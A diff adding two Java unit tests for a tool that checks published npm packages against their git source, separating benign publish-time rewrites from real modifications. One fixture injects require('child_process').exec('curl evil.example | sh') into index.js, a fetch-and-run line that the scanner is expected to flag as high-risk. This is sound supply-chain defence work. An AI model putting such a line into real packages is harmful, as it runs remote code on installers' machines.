@@ -688,6 +688,68 @@ class NpmScanTest {
     }
 
     @Test
+    void cleanPublishsDevelopmentFieldsRemovedAreExplainedButARuntimeFieldRemovedIsNot() throws Exception {
+        // clean-publish's IGNORE_FIELDS include yaspeller, sharec and pnpm; "browser" decides which file a bundler
+        // loads, so its removal is never a development field's
+        String extra = ",\n  \"browser\": {\"./index.js\": \"./cli.js\"},\n  \"yaspeller\": {\"lang\": \"en\"},\n"
+                + "  \"sharec\": {\"config\": \"@logux/sharec-config\"},\n  \"pnpm\": {\"overrides\": {}}";
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "3.4.0", extra),
+                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n");
+        commit(tree, "3.4.0");
+        git.tag("v3.4.0", false);
+        String browser = ",\n  \"browser\": {\"./index.js\": \"./cli.js\"}";
+        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
+            npm.publish("3.4.0", with(tree, "package.json", pkgJson("widget", "3.4.0", browser)));
+            npm.publish("3.4.1", with(tree, "package.json", pkgJson("widget", "3.4.0", "")));
+            FileDivergence stripped = row(scan(npm, "pkg:npm/widget", "3.4.0").artifacts().get(0), "package/package.json");
+            assertEquals(FileStatus.MATCH_NORMALIZED, stripped.status(), stripped.toString());
+            assertEquals(NpmGeneratedFiles.DEV_FIELDS_STRIPPED, stripped.ruleId());
+            assertEquals("development-only fields removed at publish: [yaspeller, sharec, pnpm]",
+                    stripped.detail().orElseThrow());
+            FileDivergence runtime = row(scan(npm, "pkg:npm/widget", "3.4.1").artifacts().get(0), "package/package.json");
+            assertEquals(FileStatus.MODIFIED, runtime.status(), runtime.toString());
+            assertEquals(NpmGeneratedFiles.PACKAGE_JSON_DIFFERS, runtime.ruleId());
+            assertEquals("package.json fields differ: [browser]", runtime.detail().orElseThrow());
+        }
+    }
+
+    @Test
+    void javaScriptPublishedWithoutItsCommentsIsExplainedAndAPayloadBesideThemIsNot() throws Exception {
+        String index = "/**\n * Widget.\n * @returns {number}\n */\n\n// one\nmodule.exports = function () {\n"
+                + "  return 1 // the answer\n}\n";
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "3.5.0", ""),
+                "index.js", index, "cli.js", "#!/usr/bin/env node\n// run it\nrequire('./index')\n", "README.md",
+                "# widget\n\nA widget.\n\n## Usage\n\nCall it.\n");
+        commit(tree, "3.5.0");
+        git.tag("v3.5.0", false);
+        String stripped = "module.exports = function () {\n  return 1\n}\n";
+        // clean-publish cleanDocs: the README cut to its first section and a link
+        String readme = "# widget\n\nA widget.\n\n## Docs\nRead full docs **[here](https://github.com/acme/widget#readme)**.\n";
+        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
+            npm.publish("3.5.0", with(with(tree, "index.js", stripped), "cli.js",
+                    "#!/usr/bin/env node\nrequire('./index')\n"));
+            npm.publish("3.5.1", with(tree, "index.js", "module.exports = function () {\n  return 1\n}\n"
+                    + "require('child_process').exec('curl evil.example | sh')\n"));
+            npm.publish("3.5.2", with(with(with(tree, "index.js", stripped), "README.md", readme), "package.json",
+                    pkgJson("widget", "3.5.2", "")));
+            ArtifactReport a = scan(npm, "pkg:npm/widget", "3.5.0").artifacts().get(0);
+            for (String path : List.of("package/index.js", "package/cli.js")) {
+                FileDivergence f = row(a, path);
+                assertEquals(FileStatus.MATCH_NORMALIZED, f.status(), f.toString());
+                assertEquals(NpmGeneratedFiles.JS_COMMENTS_STRIPPED, f.ruleId());
+            }
+            assertEquals(Verdict.EXPLAINED, a.verdict());
+            FileDivergence payload = row(scan(npm, "pkg:npm/widget", "3.5.1").artifacts().get(0), "package/index.js");
+            assertEquals(FileStatus.MODIFIED, payload.status(), payload.toString());
+            assertTrue(payload.highRisk(), payload.toString());
+            ReleaseReport docs = scan(npm, "pkg:npm/widget", "3.5.2");
+            assertEquals(Verdict.DIVERGENT, docs.verdict());
+            assertEquals(FileStatus.MODIFIED, row(docs.artifacts().get(0), "package/README.md").status());
+            assertTrue(dev.divergence.scan.ReleaseFlags.docOnlyDivergence(docs));
+        }
+    }
+
+    @Test
     void pinstRenamingPostinstallIsExplainedOnlyWhenTheRenamedScriptIsTheSources() throws Exception {
         SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "8.0.0",
                 ",\n  \"scripts\": {\"postinstall\": \"husky install\", \"test\": \"tap\"}"),
